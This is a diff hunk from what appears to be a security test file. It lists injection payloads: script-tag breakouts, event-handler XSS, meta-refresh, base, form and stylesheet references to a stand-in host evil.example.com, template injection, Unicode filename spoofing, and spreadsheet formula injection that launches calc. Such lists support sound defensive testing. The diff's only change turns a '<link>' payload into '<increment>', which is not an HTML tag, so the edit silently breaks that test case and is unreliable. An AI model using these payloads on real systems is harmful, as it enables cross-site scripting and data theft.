@@ -41,7 +41,7 @@ INJECTIONS = [
     f"--><script>{SCRIPT}</script>", f"]]><script>{SCRIPT}</script>", f"</title><script>{SCRIPT}</script>",
     f"</style><script>{SCRIPT}</script>", f"</textarea><script>{SCRIPT}</script>", f"</article><script>{SCRIPT}</script>",
     "<meta http-equiv=refresh content=0;url=https://evil.example.com>", "<base href=https://evil.example.com>",
-    "<link rel=stylesheet href=https://evil.example.com>", "<style>@import 'https://evil.example.com'</style>",
+    "<increment rel=stylesheet href=https://evil.example.com>", "<style>@import 'https://evil.example.com'</style>",
     "<form action=https://evil.example.com><input name=q></form>", f"<math><mi xlink:href=javascript:{SCRIPT}>",
     f"<details open ontoggle={SCRIPT}>", f"<marquee onstart={SCRIPT}>", "{{constructor.constructor('x')()}}",
     "\u2028alert(1)\u2029", "\u202e\u2066gnp.exe\u2069", "=cmd|' /C calc'!A0", "@SUM(1+1)", "+1+1;=2", "-2+3",
